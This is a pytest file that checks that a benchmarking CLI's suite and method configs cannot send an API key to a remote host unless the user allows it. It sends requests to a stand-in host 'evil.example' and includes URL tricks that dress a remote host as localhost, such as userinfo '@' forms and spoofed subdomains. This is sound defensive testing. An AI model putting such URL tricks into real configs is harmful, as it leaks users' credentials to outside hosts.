"""A suite or method config cannot send an API key off this machine: only the user, on the command line
(``--allow-host``, ``--base-url``), can. ``evil.example`` resolves to a local fake server that records what
reaches it, so a leak would show up there, with no network."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.textagents.json_reply import send_json
from tests.textenvs.corridor_env import CORRIDOR_ID
from textagents.cli import main
from textagents.methods.core.config import ConfigError, MethodConfig
from textagents.methods.core.run_dir import RunDir
from textagents.methods.core.runner import LLMChoice, _llm_factory

REMOTE = "evil.example"


class RecordingServer(ThreadingHTTPServer):
    """An OpenAI-compatible completions endpoint that records the Authorization header of every request."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), CompletionsHandler)
        self.keys: list[str | None] = []


class CompletionsHandler(BaseHTTPRequestHandler):
    server: RecordingServer

    def do_POST(self) -> None:
        self.server.keys.append(self.headers.get("Authorization"))
        request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        prompts = request["prompt"] if isinstance(request["prompt"], list) else [request["prompt"]]
        logprobs = {"tokens": ["x"], "token_logprobs": [-1.0], "text_offset": [10**6], "top_logprobs": None}
        choices = [
            {"index": i, "text": "go right", "finish_reason": "stop", "logprobs": logprobs} for i in range(len(prompts))
        ]
        send_json(self, {"id": "c", "object": "text_completion", "created": 0, "model": "m", "choices": choices})

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def server(monkeypatch) -> Iterator[RecordingServer]:
    """The fake server, which ``evil.example`` and its subdomains resolve to; ``$EXAMPLE_API_KEY`` is set."""
    running = RecordingServer()
    threading.Thread(target=running.serve_forever, daemon=True).start()
    resolve = socket.getaddrinfo
    monkeypatch.setattr(
        socket,
        "getaddrinfo",
        lambda host, *rest, **kw: resolve("127.0.0.1" if host.endswith(REMOTE) else host, *rest, **kw),
    )
    for proxy in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.delenv(proxy, raising=False)
    monkeypatch.setenv("EXAMPLE_API_KEY", "secret")
    yield running
    running.shutdown()
    running.server_close()


def url(server: RecordingServer, host: str = REMOTE) -> str:
    return f"http://{host}:{server.server_address[1]}/v1"


def llm_suite(directory: Path, base_url: str) -> Path:
    path = directory / "suite.yaml"
    path.write_text(
        f"envs: [{{id: {CORRIDOR_ID}, seeds: [0], kwargs: {{max_steps: 2}}}}]\n"
        f"agents:\n  - {{name: remote, kind: llm-generate, model: m, base_url: '{base_url}', "
        "api_key_env: EXAMPLE_API_KEY}\n"
    )
    return path


def bench_run(suite: Path, out: Path, *flags: str) -> int:
    return main(["bench", "run", str(suite), "--out", str(out), "--no-progress", *flags])


def test_a_suite_cannot_send_the_key_to_a_host_it_names(tmp_path, server, capsys):
    assert bench_run(llm_suite(tmp_path, url(server)), tmp_path / "run") == 2
    assert server.keys == []
    assert not (tmp_path / "run" / "episodes.jsonl").exists()
    err = capsys.readouterr().err.strip()
    assert err.endswith(
        "agents[0].base_url: the key in $EXAMPLE_API_KEY would go to evil.example, which is not this machine: "
        "pass --allow-host evil.example to allow that host (or unset EXAMPLE_API_KEY to send no key)"
    )
    assert len(err.splitlines()) == 1 and "secret" not in err


def test_a_dry_run_refuses_it_too(tmp_path, server):
    assert bench_run(llm_suite(tmp_path, url(server)), tmp_path / "run", "--dry-run") == 2


@pytest.mark.parametrize(
    "trick",
    [
        "http://127.0.0.1@evil.example:{port}/v1",
        "http://localhost:{port}@evil.example:{port}/v1",
        "http://LOCALHOST.EVIL.EXAMPLE:{port}/v1",
        "http://127.0.0.1.evil.example:{port}/v1",
    ],
)
def test_a_suite_cannot_dress_a_remote_host_as_this_machine(tmp_path, server, trick):
    base_url = trick.format(port=server.server_address[1])
    assert bench_run(llm_suite(tmp_path, base_url), tmp_path / "run") == 2
    assert server.keys == []


def test_the_user_can_allow_the_host(tmp_path, server):
    assert bench_run(llm_suite(tmp_path, url(server)), tmp_path / "run", "--allow-host", "EVIL.example") == 0
    assert server.keys and set(server.keys) == {"Bearer secret"}


def test_a_base_url_the_user_typed_is_allowed(tmp_path, server):
    suite = llm_suite(tmp_path, "http://127.0.0.1:9/v1")
    assert bench_run(suite, tmp_path / "run", "--base-url", url(server)) == 0
    assert server.keys and set(server.keys) == {"Bearer secret"}


def test_a_suite_may_name_this_machine(tmp_path, server):
    assert bench_run(llm_suite(tmp_path, url(server, "127.0.0.1")), tmp_path / "run") == 0
    assert server.keys and set(server.keys) == {"Bearer secret"}


def test_a_suite_may_name_a_remote_host_when_no_key_is_set(tmp_path, server, monkeypatch):
    monkeypatch.delenv("EXAMPLE_API_KEY")
    assert bench_run(llm_suite(tmp_path, url(server)), tmp_path / "run") == 0
    assert server.keys and set(server.keys) == {"Bearer none"}


def test_a_bad_allowed_host_is_refused(tmp_path, server, capsys):
    with pytest.raises(SystemExit) as exit:
        bench_run(llm_suite(tmp_path, url(server)), tmp_path / "run", "--allow-host", "https://evil.example")
    assert exit.value.code == 2
    assert "'https://evil.example' is not a host" in capsys.readouterr().err


def method_config(directory: Path, base_url: str) -> Path:
    path = directory / "method.yaml"
    path.write_text(
        f"iterations: 1\nenv_id: BabyAI-Text-GoToRedBallNoDists-v0\nmax_steps: 2\nepisodes_per_iteration: 1\n"
        f"eval_episodes: 1\nprior_weight: 1.0\nmodel: m\nbase_url: '{base_url}'\napi_key_env: EXAMPLE_API_KEY\n"
    )
    return path


def method_run(config: Path, out: Path, *flags: str) -> int:
    return main(["method", "run", "example", str(config), "--out", str(out), "--no-progress", *flags])


def test_a_method_config_cannot_send_the_key_to_a_host_it_names(tmp_path, server, capsys):
    assert method_run(method_config(tmp_path, url(server)), tmp_path / "run") == 2
    assert server.keys == []
    assert not (tmp_path / "run").exists()
    assert "would go to evil.example, which is not this machine: pass --allow-host evil.example" in (
        capsys.readouterr().err
    )


def test_method_run_can_allow_the_host(tmp_path, server):
    assert method_run(method_config(tmp_path, url(server)), tmp_path / "run", "--allow-host", REMOTE) == 0
    assert server.keys and set(server.keys) == {"Bearer secret"}


def test_method_compare_takes_allowed_hosts_too(tmp_path, server):
    compare = ["method", "compare", "example", str(method_config(tmp_path, url(server))), "--out", str(tmp_path / "c")]
    assert main([*compare, "--vary", "learning_rate=0.1", "--no-progress"]) == 2
    assert server.keys == []
    assert main([*compare, "--vary", "learning_rate=0.1", "--no-progress", "--allow-host", REMOTE]) == 0
    assert set(server.keys) == {"Bearer secret"}


def test_every_server_llm_the_runner_builds_is_checked(tmp_path, server):
    """What `method eval` and `lgqd describe/judge` build, from a config recorded in a folder."""
    config = MethodConfig(model="m", base_url=url(server), api_key_env="EXAMPLE_API_KEY")
    with pytest.raises(ConfigError, match=r"would go to evil\.example, which is not this machine"):
        _llm_factory(config, RunDir(tmp_path), LLMChoice())()
    assert server.keys == []
